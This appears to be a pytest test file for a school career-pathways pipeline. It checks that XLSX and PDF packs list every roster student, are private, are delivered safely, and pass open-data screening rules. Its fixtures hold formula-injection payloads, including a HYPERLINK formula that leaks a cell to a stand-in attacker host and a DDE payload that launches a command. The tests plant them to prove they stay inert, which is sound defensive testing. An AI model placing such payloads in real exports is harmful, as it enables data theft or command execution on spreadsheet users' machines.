"""Deliveries people can use: career-lead packs (XLSX and a one-page PDF) that read and print,
with every roster student and nothing executable, written by a passing run."""

from __future__ import annotations

import csv
import hashlib
import os
import shutil
import stat
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import openpyxl
import psycopg
import pypdf
import pytest
from conftest import scratch_warehouse

from pathways import pipeline
from pathways.deliver import ees_export, ees_screen
from pathways.synthetic import generate

# Extract text a spreadsheet program would run: formulas, DDE, and the prefixes that smuggle one.
INJECTIONS = [
    '=HYPERLINK("http://attacker.invalid/?"&C2,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
SCHOOL_NAME = '=HYPERLINK("http://attacker.invalid","Click")'
MATHTEXT_SCHOOL = r"St Mary $\sqrt{$ High School"
MULTILINE_PLAN = "Book a college taster day\nTalk to family about the options"


def rewrite(path: Path, change) -> None:
    """Rewrite a CSV extract row by row: change(index, row) edits the row (None drops it)."""
    with open(path, newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    kept = [row for index, row in enumerate(rows) if change(index, row) is not False]
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(kept)


@pytest.fixture(scope="module")
def delivered(tmp_path_factory, monkeypatch_module):
    root = tmp_path_factory.mktemp("deliveries")
    landing, outbox = root / "landing", root / "outbox"
    generate(landing, schools=3, cycles=2)
    cohort = landing / "cohort=2024"
    first_school = sorted(cohort.glob("cycle=2/roster_*.csv"))[0]
    urn = first_school.stem.split("_")[1]

    def hostile_school(index, row):
        if row["urn"] == urn:
            row["school_name"] = SCHOOL_NAME

    def hostile_names(index, row):
        if index < len(INJECTIONS):
            row["surname"] = INJECTIONS[index]
            row["forename"] = INJECTIONS[-1 - index]

    def mathtext_school(index, row):  # matplotlib read "$...$" as mathtext and failed
        if row["urn"] == second_urn:
            row["school_name"] = MATHTEXT_SCHOOL

    second_urn = sorted(cohort.glob("cycle=2/roster_*.csv"))[1].stem.split("_")[1]
    rewrite(cohort / "schools.csv", hostile_school)
    rewrite(cohort / "schools.csv", mathtext_school)
    rewrite(first_school, hostile_names)
    interviews = sorted(cohort.glob("cycle=2/interviews_*.csv"))[0]
    missed = {}

    def hostile_plans(index, row):
        if row["school_urn"] == urn and "upn" not in missed:
            missed["upn"] = row["upn"]
            return False  # this student misses the cycle's interview
        row["action_plan"] = INJECTIONS[index % len(INJECTIONS)] if index < 10 else MULTILINE_PLAN

    rewrite(interviews, hostile_plans)
    monkeypatch_module.setenv("PATHWAYS_OUTBOX", str(outbox))
    with scratch_warehouse() as url:
        result = pipeline.run(landing, url=url)
        assert result.ok, result.report()
        yield {"url": url, "outbox": outbox, "urn": urn, "result": result, "landing": landing}


@pytest.fixture(scope="module")
def monkeypatch_module():
    with pytest.MonkeyPatch.context() as patch:
        yield patch


def packs(delivered) -> list[Path]:
    folder = delivered["outbox"] / "career_lead_packs" / "cohort=2024" / "cycle=2"
    return sorted(folder.glob("*.xlsx"))


def test_a_passing_run_delivers_the_latest_cycle(delivered):
    assert len(packs(delivered)) == 3
    assert len(list(packs(delivered)[0].parent.glob("*.pdf"))) == 3
    assert len(list((delivered["outbox"] / "ees").glob("pathways_*.csv"))) == 10
    assert any(line.startswith("delivered: 3 career-lead packs") for line in
               delivered["result"].deliveries)  # fmt: skip


def test_no_text_from_an_extract_becomes_a_formula(delivered):
    texts = set()
    for path in packs(delivered):
        book = openpyxl.load_workbook(path)  # not read-only: data_type tells formulas apart
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, sheet.title, cell.coordinate)
                    if isinstance(cell.value, str):
                        texts.add(cell.value)
    # The hostile values are there, as text (ingestion trims the tab and carriage return).
    assert {injection.strip() for injection in INJECTIONS} <= texts
    assert any(SCHOOL_NAME in text for text in texts)


def test_negative_control_openpyxl_would_have_written_a_formula(tmp_path):
    """Without the string cell type, openpyxl stores '=...' as a formula: what the test catches."""
    book = openpyxl.Workbook()
    book.active["A1"] = INJECTIONS[0]
    book.save(tmp_path / "plain.xlsx")
    assert openpyxl.load_workbook(tmp_path / "plain.xlsx").active["A1"].data_type == "f"


def test_every_roster_student_is_listed_and_the_missed_one_needs_attention(delivered):
    path = next(path for path in packs(delivered) if path.name.startswith(delivered["urn"]))
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Summary", "Needs attention", "Students", "Knowledge scores"]
    students = list(book["Students"].iter_rows(min_row=2, values_only=True))
    landing = delivered["outbox"].parent / "landing" / "cohort=2024" / "cycle=2"
    with open(landing / f"roster_{delivered['urn']}.csv", newline="", encoding="utf-8") as handle:
        roster = len(list(csv.DictReader(handle)))
    assert len(students) == roster
    missed = [row for row in students if row[2] == "Not interviewed this cycle"]
    assert len(missed) == 1
    header, *listed = book["Needs attention"].iter_rows(values_only=True)
    assert header[:5] == ("Surname", "Forename", "Rank", "Priority (points)", "Why")
    attention = {(row[0], row[1]): row for row in listed}
    assert attention[missed[0][:2]][4:6] == ("not interviewed this cycle", "Not interviewed")
    assert [row[2] for row in listed] == list(range(1, len(listed) + 1))
    assert [row[3] for row in listed] == sorted((row[3] for row in listed), reverse=True)
    # The PDF's second page names the same students in the same order.
    pdf = pypdf.PdfReader(path.with_suffix(".pdf")).pages[1].extract_text()
    positions = [pdf.index(f"{surname}, {forename}") for surname, forename, *_ in listed]
    assert positions == sorted(positions) and "Needs attention after cycle 2" in pdf
    summary = [row for row in book["Summary"].iter_rows(values_only=True) if row[0]]
    assert f"interviewed: {roster - 1}; not interviewed: 1." in summary[2][0]


def test_codes_are_shown_as_labels(delivered):
    book = openpyxl.load_workbook(packs(delivered)[0])
    header, *rows = list(book["Students"].iter_rows(values_only=True))
    column = {name: index for index, name in enumerate(header)}
    allowed = {
        "Gender": {"Female", "Male", "Not known / not stated"},
        "SEN": {"No SEN", "SEN support", "Education, health and care plan"},
        "NEET risk": {"Low", "Medium", "High", "Not interviewed"},
        "Predicted destination": {"Education, employment or training", "Unknown", None,
                                  "Not in education, employment or training"},
    }  # fmt: skip
    for name, labels in allowed.items():
        assert {row[column[name]] for row in rows} <= labels, name


def test_packs_read_and_print_well(delivered):
    book = openpyxl.load_workbook(packs(delivered)[0])
    for sheet in book.worksheets:
        setup = sheet.page_setup
        wide = 2 if sheet.title == "Knowledge scores" else 1  # 26 columns: two pages, readable
        assert (setup.orientation, setup.fitToWidth, setup.fitToHeight) == ("landscape", wide, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.oddHeader.left.text.endswith(": &A, cycle 2")  # each page says what it is
    for name in ("Needs attention", "Students", "Knowledge scores"):
        sheet = book[name]
        assert sheet.print_title_rows == "$1:$1" and sheet.print_title_cols == "$A:$B"
        assert sheet.freeze_panes == "C2" and sheet.auto_filter.ref == sheet.dimensions
        for cell in sheet[1]:  # no header word cut by its column
            width = sheet.column_dimensions[cell.column_letter].width
            assert width >= max(map(len, str(cell.value).split())), (name, cell.value, width)
    plans = [cell for cell in book["Students"]["M"] if cell.value == MULTILINE_PLAN]
    assert plans and all(cell.alignment.wrap_text for cell in plans)
    dates = [cell for cell in book["Students"]["H"][1:] if cell.value is not None]
    assert dates and {cell.number_format for cell in dates} == {"dd/mm/yyyy"}


def test_the_pdf_summary_is_two_pages_naming_the_school(delivered):
    pdfs = sorted(packs(delivered)[0].parent.glob("*.pdf"))
    for pdf in pdfs:
        reader = pypdf.PdfReader(pdf)
        assert len(reader.pages) == 2
        assert "Needs attention after cycle" in reader.pages[1].extract_text()
        text = reader.pages[0].extract_text()
        assert "All programme schools" in text and "(LEP area)" in text
        urn = pdf.name.split("_")[0]
        assert f"URN {urn}" in text


def test_a_school_name_reaches_the_pdf_as_plain_text(delivered):
    pdf = next(packs(delivered)[0].parent.glob("*_St_Mary_sqrt_High_School.pdf"))
    assert MATHTEXT_SCHOOL in pypdf.PdfReader(pdf).pages[0].extract_text()


def test_every_delivery_is_private_to_the_service_user(delivered):
    """Packs hold names, SEN status, NEET risk and action plans: 0600 in 0700 folders."""
    paths = [delivered["outbox"], *delivered["outbox"].rglob("*")]
    modes = {path: stat.S_IMODE(path.stat().st_mode) for path in paths}
    assert len(modes) > 15 and not any(p.name.startswith(".staging") for p in modes)
    wrong = {str(p): oct(mode) for p, mode in modes.items()
             if mode != (0o700 if p.is_dir() else 0o600)}  # fmt: skip
    assert not wrong


def snapshot(folder: Path) -> dict[str, tuple[str, int]]:
    return {
        str(path.relative_to(folder)): (hashlib.sha256(path.read_bytes()).hexdigest(),
                                        path.stat().st_mtime_ns)
        for path in sorted(folder.rglob("*")) if path.is_file()
    }  # fmt: skip


DELIVER_UNDER_A_SIZE_LIMIT = """
import resource, signal, sys
from pathways import pipeline
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the limit fails, as on a full disk
resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[2]), int(sys.argv[2])))
result = pipeline.RunResult(sys.argv[1])
pipeline._deliver_into(result, sys.argv[1])
print(result.errors[0] if result.errors else "delivered")
"""


def test_a_delivery_that_cannot_be_written_leaves_the_last_good_release(delivered, tmp_path):
    """Issue 27: a write failing part way (a full disk) left an outbox mixing two releases,
    with .partial files, one of them a pack of personal data."""
    outbox = tmp_path / "outbox"
    shutil.copytree(delivered["outbox"], outbox)
    before = snapshot(outbox)
    sizes = {name: (outbox / name).stat().st_size for name in before}
    largest_pack = max(size for name, size in sizes.items() if "career_lead" in name)
    largest_open = max(size for name, size in sizes.items() if name.startswith("ees/"))
    assert largest_open > largest_pack  # so every pack is written and the open data fails
    finished = subprocess.run(
        [sys.executable, "-c", DELIVER_UNDER_A_SIZE_LIMIT, delivered["url"],
         str(largest_pack + 1)],
        capture_output=True, text=True, timeout=600,
        env={**os.environ, "PATHWAYS_OUTBOX": str(outbox)},
    )  # fmt: skip
    assert finished.returncode == 0, finished.stderr[-3000:]
    assert "deliveries not written: File too large" in finished.stdout
    assert "the last delivered release stands" in finished.stdout
    assert snapshot(outbox) == before  # not one file changed, none added, none left half-made
    assert not list(outbox.glob(".staging*"))


def test_a_remote_outbox_gets_each_delivery_and_loses_what_the_release_dropped(
    delivered, tmp_path, monkeypatch
):
    """Issue 32: PATHWAYS_OUTBOX may be an fsspec URL (a worker on another machine delivers to
    an object store); it was taken for a local folder named "memory:". The deliveries are
    switched in a private local copy and uploaded from it."""
    import uuid

    import fsspec

    from pathways import settings

    url = f"memory://pathways-outbox-{uuid.uuid4().hex[:8]}"
    monkeypatch.setenv("PATHWAYS_OUTBOX", url)
    monkeypatch.setattr(settings, "STATE_DIR", tmp_path / "state")
    remote, root = fsspec.core.url_to_fs(url)
    stale = f"{root}/ees/a_file_the_last_release_had.csv"
    remote.pipe_file(stale, b"old")
    try:
        pipeline.deliver(delivered["url"])
        copy = settings.outbox()
        assert copy.is_relative_to(tmp_path / "state")
        local = {str(path.relative_to(copy)): path.read_bytes()
                 for path in copy.rglob("*") if path.is_file()}  # fmt: skip
        uploaded = {path.removeprefix(f"{root}/"): remote.cat_file(path)
                    for path in remote.find(root)}  # fmt: skip
        assert uploaded == local and any(name.endswith(".xlsx") for name in uploaded)
        assert not remote.exists(stale)  # the new ees/ release replaced the old one whole
        assert {stat.S_IMODE(path.stat().st_mode) for path in copy.rglob("*")} == {0o700, 0o600}
        assert stat.S_IMODE(copy.stat().st_mode) == 0o700
    finally:
        remote.rm(root, recursive=True)


def test_an_outbox_given_as_a_file_url_is_that_folder(delivered, tmp_path, monkeypatch):
    monkeypatch.setenv("PATHWAYS_OUTBOX", f"file://{tmp_path}/outbox")
    ees_export.export(delivered["url"])
    assert sorted(path.name for path in (tmp_path / "outbox" / "ees").glob("*.csv"))
    assert not Path("file:").exists()


def test_an_export_into_a_named_folder_leaves_its_other_files_alone(delivered, tmp_path):
    """The switch replaces the outbox's own ees/ folder whole, never the folder named."""
    (tmp_path / "my_notes.txt").write_text("kept")
    written = ees_export.export(delivered["url"], tmp_path)
    assert (tmp_path / "my_notes.txt").read_text() == "kept"
    assert written and all(path.parent == tmp_path / "ees" and path.exists() for path in written)


def test_a_run_with_nothing_new_publishes_and_delivers_nothing_again(delivered):
    """Issue 27: an unchanged landing meant a full build, a new publication and every pack
    and open-data file written again."""
    before = snapshot(delivered["outbox"])
    with psycopg.connect(delivered["url"]) as conn:
        published = conn.execute("select publication_id from published.current_publication")
        published = published.fetchone()[0]
    again = pipeline.run(delivered["landing"], url=delivered["url"])
    assert again.ok and again.nothing_new_since == published, again.report()
    assert again.dbt_summary is None and again.publication is None and not again.deliveries
    assert f"nothing new since publication {published}" in again.report()
    assert snapshot(delivered["outbox"]) == before


# --- Open data: every file passes the EES screener's rules (pathways/deliver/ees_screen.py) ---


def open_data(delivered) -> list[Path]:
    files = (delivered["outbox"] / "ees").glob("pathways_*.csv")
    return sorted(path for path in files if not path.name.endswith(".meta.csv"))


def screen(delivered, data: Path, meta: Path, name: str | None = None):
    with psycopg.connect(delivered["url"]) as conn:
        lookups = ees_screen.reference(conn)
    name = name or data.name
    return ees_screen.screen(data, meta, lookups, name, name.removesuffix(".csv") + ".meta.csv")


def test_every_open_data_file_passes_the_screener(delivered):
    files = open_data(delivered)
    # Two cycles: no destinations yet (tests/test_access.py exports a seven-cycle cohort's).
    views = sorted(d.view for d in ees_export.DATASETS if d.view != "destinations")
    assert [path.name for path in files] == [f"pathways_{view}.csv" for view in views]
    for data in files:
        screening = screen(delivered, data, data.with_name(data.stem + ".meta.csv"))
        assert screening.findings == [], (data.name, screening.findings)
        columns, rows = ees_screen._read(data)
        assert "cohort" not in columns  # one cohort: not a filter
        assert {row["geographic_level"] for row in rows} == {
            "Regional", "Local enterprise partnership", "Local authority"}  # fmt: skip


def _write(path: Path, columns: list[str], rows: list[dict]) -> None:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns)
        writer.writeheader()
        writer.writerows(rows)


def _first(rows, level):
    return next(row for row in rows if row["geographic_level"] == level)


def _add_singular_cohort(columns, rows, meta_columns, meta):
    columns.insert(12, "cohort")
    for row in rows:
        row["cohort"] = "2024"
    meta.insert(0, {**{c: "" for c in meta_columns}, "col_name": "cohort", "col_type": "Filter",
                    "label": "Cohort"})  # fmt: skip


# (rule, how to break a copy of pathways_sector_interest.csv or its metadata)
BREAKS = {
    "required_columns": lambda c, r, mc, m: c.remove("time_identifier"),
    "column_names": lambda c, r, mc, m: c.__setitem__(c.index("sex"), "Sex Of Student"),
    "time_period": lambda c, r, mc, m: r[0].update(time_period="2025/26"),
    "time_identifier": lambda c, r, mc, m: r[0].update(time_identifier="Academic Year 2025"),
    "geographic_level": lambda c, r, mc, m: r[0].update(geographic_level="Region"),
    "geography_completed": lambda c, r, mc, m: _first(r, "Local authority").update(la_name=""),
    "geography_overcompleted": lambda c, r, mc, m: _first(r, "Local authority").update(
        local_enterprise_partnership_code="E37000025"),
    "geography_combinations": lambda c, r, mc, m: [
        row.update(local_enterprise_partnership_code="north_east") for row in r
        if row["geographic_level"] == "Local enterprise partnership"],
    "meta_columns": lambda c, r, mc, m: m.append({**m[0], "col_name": "time_period"}),
    "meta_types": lambda c, r, mc, m: m[-1].update(indicator_unit="percent"),
    "meta_label": lambda c, r, mc, m: m[0].update(label=" "),
    "filter_blanks": lambda c, r, mc, m: r[0].update(sector=""),
    "filter_spaces": lambda c, r, mc, m: r[0].update(sector=" Total"),
    "singular_filter": _add_singular_cohort,
    "indicator_blanks": lambda c, r, mc, m: r[0].update(students=""),
    "obsolete_symbols": lambda c, r, mc, m: r[0].update(students=":"),
    "indicator_values": lambda c, r, mc, m: r[0].update(students="five"),
    "duplicate_rows": lambda c, r, mc, m: r.append(dict(r[0])),
    "formula_text": lambda c, r, mc, m: [row.update(sector="=1+1") for row in r
                                         if row["sector"] == "Clean energy"],
    "file_names": None,  # the name, not the content
}  # fmt: skip


@pytest.mark.parametrize("rule", sorted(BREAKS))
def test_a_broken_copy_fails_its_rule(delivered, tmp_path, rule):
    """Negative controls: each rule catches the defect it exists for."""
    source = delivered["outbox"] / "ees" / "pathways_sector_interest.csv"
    columns, rows = ees_screen._read(source)
    meta_columns, meta = ees_screen._read(source.with_name(source.stem + ".meta.csv"))
    name = "pathways sector interest.csv" if rule == "file_names" else source.name
    if BREAKS[rule]:
        BREAKS[rule](columns, rows, meta_columns, meta)
    data, meta_path = tmp_path / "data.csv", tmp_path / "data.meta.csv"
    _write(data, columns, [{c: row.get(c, "") for c in columns} for row in rows])
    _write(meta_path, meta_columns, meta)
    screening = screen(delivered, data, meta_path, name=name)
    assert screening.failed(rule), (rule, screening.findings)


def test_no_total_rows_is_a_warning(delivered, tmp_path):
    source = delivered["outbox"] / "ees" / "pathways_post16_plans.csv"
    columns, rows = ees_screen._read(source)
    meta_columns, meta = ees_screen._read(source.with_name(source.stem + ".meta.csv"))
    _write(tmp_path / "data.csv", columns, [row for row in rows if row["post16_plan"] != "Total"])
    _write(tmp_path / "data.meta.csv", meta_columns, meta)
    screening = screen(delivered, tmp_path / "data.csv", tmp_path / "data.meta.csv",
                       name=source.name)  # fmt: skip
    assert [(f.rule, f.level) for f in screening.findings] == [("filter_default", "WARNING")]


def test_spreadsheet_formulas_are_defused_and_numbers_left_alone():
    assert ees_export.safe_text('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert ees_export.safe_text("@SUM(A1)") == "'@SUM(A1)"
    assert ees_export.safe_text(Decimal("-12.5")) == Decimal("-12.5")
    assert ees_export.safe_text("Total") == "Total"
